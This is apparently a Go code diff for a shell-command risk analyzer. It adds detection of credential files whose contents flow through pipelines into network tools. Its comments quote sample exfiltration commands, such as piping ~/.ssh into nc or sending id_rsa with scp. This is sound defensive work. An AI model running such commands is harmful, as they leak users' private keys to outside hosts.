@@ -15,8 +15,10 @@ import (
 // to database clients.
 func (k *Knowledge) Analyze(cmds []Command, env paths.Env) []risk.Finding {
 	var out []risk.Finding
+	cred := make([]bool, len(cmds)) // the command reads a credential file
 	for i, c := range cmds {
 		out = k.redirects(out, c, env)
+		cred[i] = readsCredential(c, env)
 		if len(c.Args) == 0 || c.Dynamic[0] {
 			continue
 		}
@@ -34,12 +36,65 @@ func (k *Knowledge) Analyze(cmds []Command, env paths.Env) []risk.Finding {
 					}
 					if f, ok := r.judge(c, t, env); ok {
 						out = append(out, f)
+						if f.Rule == credentialRead {
+							cred[i] = true
+						}
 					}
 				}
 			}
 		}
 		out = k.flow(out, cmds, i, name)
 		out = k.sqlClient(out, cmds, i, name)
+	}
+	return k.exfil(out, cmds, cred)
+}
+
+// credentialRead is the rule of the row that reads credential files.
+const credentialRead = "cmd.credential_file_access"
+
+// readsCredential reports a command whose stdin is a credential file.
+func readsCredential(c Command, env paths.Env) bool {
+	for _, rd := range c.Redirs {
+		if rd.Op == "<" && !rd.Dynamic && env.Classify(rd.Target) == paths.Credential {
+			return true
+		}
+	}
+	return false
+}
+
+// exfil finds credentials that flow into a command that talks to the
+// network: tar czf - ~/.ssh | nc host 9000.
+func (k *Knowledge) exfil(out []risk.Finding, cmds []Command, cred []bool) []risk.Finding {
+	for i, c := range cmds {
+		if len(c.Args) == 0 || c.Dynamic[0] || !k.down[commandName(c.Args[0])] {
+			continue
+		}
+		src := -1
+		if cred[i] && commandName(c.Args[0]) != "curl" && commandName(c.Args[0]) != "wget" {
+			src = i // nc host < ~/.ssh/id_rsa, scp ~/.ssh/id_rsa host:
+		}
+		seen := map[int]bool{}
+		var walk func(j int)
+		walk = func(j int) {
+			if seen[j] || src >= 0 {
+				return
+			}
+			seen[j] = true
+			if cred[j] {
+				src = j
+				return
+			}
+			for _, u := range cmds[j].Inputs {
+				walk(u)
+			}
+		}
+		for _, j := range c.Inputs {
+			walk(j)
+		}
+		if src >= 0 {
+			out = append(out, risk.Finding{Analyzer: "shell", Rule: "exfil.credential_file", Level: risk.Critical,
+				Reason: "Secrets read by `" + cut(cmds[src].Line(), 80) + "` are sent over the network by " + commandName(c.Args[0])})
+		}
 	}
 	return out
 }
